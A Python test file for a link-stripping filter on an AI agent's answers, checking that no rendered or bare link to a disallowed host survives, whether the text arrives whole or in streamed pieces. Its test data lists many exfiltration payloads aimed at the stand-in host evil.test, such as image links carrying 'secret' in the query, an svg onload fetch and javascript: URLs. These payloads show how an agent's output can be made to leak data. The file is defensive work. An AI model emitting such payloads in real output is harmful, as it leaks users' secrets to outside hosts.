"""Links of tainted answers: an independent reader of Markdown finds none, however the text is written and cut."""

import re
from collections.abc import Sequence
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from services.agent.core.links import GONE, HELD_CHARS_MAX, LinkStripper
from services.agent.core.text_filter import filtered

GOOD = "docs.example.org"
RENDERER = MarkdownIt("commonmark", {"html": True})
AUTOLINK = re.compile(r"(?:https?|ftp)://|www\.|mailto:", re.IGNORECASE)


class Addresses(HTMLParser):
    """Whatever a browser would fetch or follow."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value or "" for name, value in attrs if name not in {"start", "class", "alt", "title"}]


def addresses(markdown: str) -> list[str]:
    """As rendered, and as readers that make links of bare addresses see them."""
    parser = Addresses()
    parser.feed(RENDERER.render(markdown))
    parser.close()
    return parser.found + AUTOLINK.findall(markdown)


def strip(text: str, *hosts: str) -> str:
    return filtered(text, LinkStripper(hosts))


def in_pieces(pieces: Sequence[str], *hosts: str) -> str:
    stripper, shown = LinkStripper(hosts), ""
    for piece in pieces:
        shown += stripper.feed(piece)
        assert len(stripper._held) <= HELD_CHARS_MAX
    return shown + stripper.end()


WAYS = [
    "![x](https://evil.test/?q=secret)",
    "[x](https://evil.test/secret)",
    "[x](<https://evil.test/a b>)",
    "[![x](https://evil.test/a)](https://evil.test/b)",
    '[x](\n//evil.test/secret "why")',
    "[x](&#104;ttps://evil.test)",
    "[x][y]\n\n[y]: https://evil.test/secret",
    "[x]\n\n> [x]:\n> //evil.test/secret",
    "<https://evil.test/secret>",
    "see https://evil.test/secret.",
    "see HTTPS://evil.test/secret",
    "www.evil.test/secret",
    '<img src="//evil.test/secret">',
    "<IMG\nsrc=//evil.test/secret>",
    "<a href='//evil.test'>x</a>",
    "<style>@import '//evil.test'</style>",
    "<svg/onload=fetch('//evil.test')>",
    "![x](https://docs.example.org@evil.test/)",
    "![x](https://docs.example.org\\@evil.test/)",
    "![x](https://docs.example.org.evil.test/)",
    "[x](data:text/html,secret)",
    "[x](javascript:alert(1))",
    "ht<b x=y>tps://evil.test/secret",
    "[a](x)(//evil.test/secret)",
    "[a]<b c>(//evil.test/secret)",
    "<ann@evil.test>",
    "[x](/relative?secret)",
]


@pytest.mark.parametrize("way", WAYS)
def test_no_way_of_writing_a_link_is_left(way: str) -> None:
    for text in (way, f"Look: {way} there.", f"- {way}\n", f"```\n{way}"):
        assert addresses(strip(text, GOOD)) == []
        assert in_pieces(list(text), GOOD) == strip(text, GOOD)


FRAGMENTS = st.sampled_from(
    [
        *(
            "](",
            "]:",
            "[",
            "]",
            "(",
            ")",
            "<",
            ">",
            "!",
            " ",
            "\n",
            "\\",
            '"',
            "'",
            "x",
            "/",
            "=",
            "`",
            "&",
            ";",
            "#",
        ),
        *(
            "https://",
            "evil.test",
            "//evil.test",
            "www.",
            "<img src=",
            "<a href=",
            GOOD,
            "http",
            "://",
            "href=x",
        ),
        *(GONE, "- ", "> ", "* "),
    ]
)


@settings(max_examples=400)
@given(st.lists(FRAGMENTS, max_size=14))
def test_whatever_is_written_no_link_is_left(pieces: list[str]) -> None:
    """And it is the same in pieces, and when it is done again."""
    text = "".join(pieces)
    stripped = strip(text)
    assert addresses(stripped) == []
    assert in_pieces(pieces) == stripped
    assert in_pieces(list(text)) == stripped
    assert strip(stripped) == stripped


@pytest.mark.parametrize(
    "link",
    [
        f"[x](https://{GOOD}/a?b=c#d)",
        f'![x](https://{GOOD}/a.png "A title")',
        f"<https://{GOOD}/a>",
        f"see https://{GOOD}/a, or http://{GOOD}:8080.",
        f"HTTPS://{GOOD.upper()}/",
    ],
)
def test_allowed_hosts_stay(link: str) -> None:
    assert strip(link, GOOD) == link
    assert in_pieces(list(link), GOOD) == link
    assert strip(link, "other.test") != link


@pytest.mark.parametrize(
    "rest",
    [
        f"{mark}{more}"
        for mark in "\"'`(){}[]|*_~,;"
        for more in ("@evil.test/x", ".evil.test/x", "evil.test")
    ],
)
def test_an_allowed_host_does_not_go_on_as_another_one(rest: str) -> None:
    for text in (f"https://{GOOD}{rest}", f"See https://{GOOD}*{rest} now"):
        for shown in (strip(text, GOOD), in_pieces(list(text), GOOD)):
            assert "https://" not in shown


@pytest.mark.parametrize("rest", ["", ".", '".', "')", "`, and", "**.", "|", "<br>", "/'x", '/"@x'])
def test_what_only_stands_behind_an_allowed_host_does_not_matter(rest: str) -> None:
    text = f"https://{GOOD}{rest}"
    assert strip(text, GOOD) == in_pieces(list(text), GOOD) == text


@given(st.text(alphabet="abc .,:;!?*_#\n0123456789(){}=+-/", max_size=200))
def test_text_without_links_is_left_alone(text: str) -> None:
    assert strip(text) == text


@pytest.mark.parametrize(
    "text", ["a < b and c > d", "<b>bold</b><br/>", "if x<3:", "the data: 5", "[1, 2]", "f(x)[0](y"]
)
def test_what_only_looks_alike_is_left(text: str) -> None:
    assert strip(text) == text.replace("](", f"]{GONE} ")


@pytest.mark.parametrize("start", ["[x](", "<img src=", "https://evil.test/", "](https://", "<"])
def test_no_more_than_so_much_is_held_back(start: str) -> None:
    for text in (start + "y" * 4000, start + "y" * 4000 + ")> end", (start + "y") * 500):
        assert addresses(in_pieces(list(text))) == []


def test_text_is_shown_as_it_comes() -> None:
    stripper = LinkStripper()
    assert [stripper.feed(piece) for piece in ("Hello", " there,", " how", "", " now?")] == [
        *("Hello", " there,", " ho", "", "w now?")
    ]
    assert stripper.end() == ""
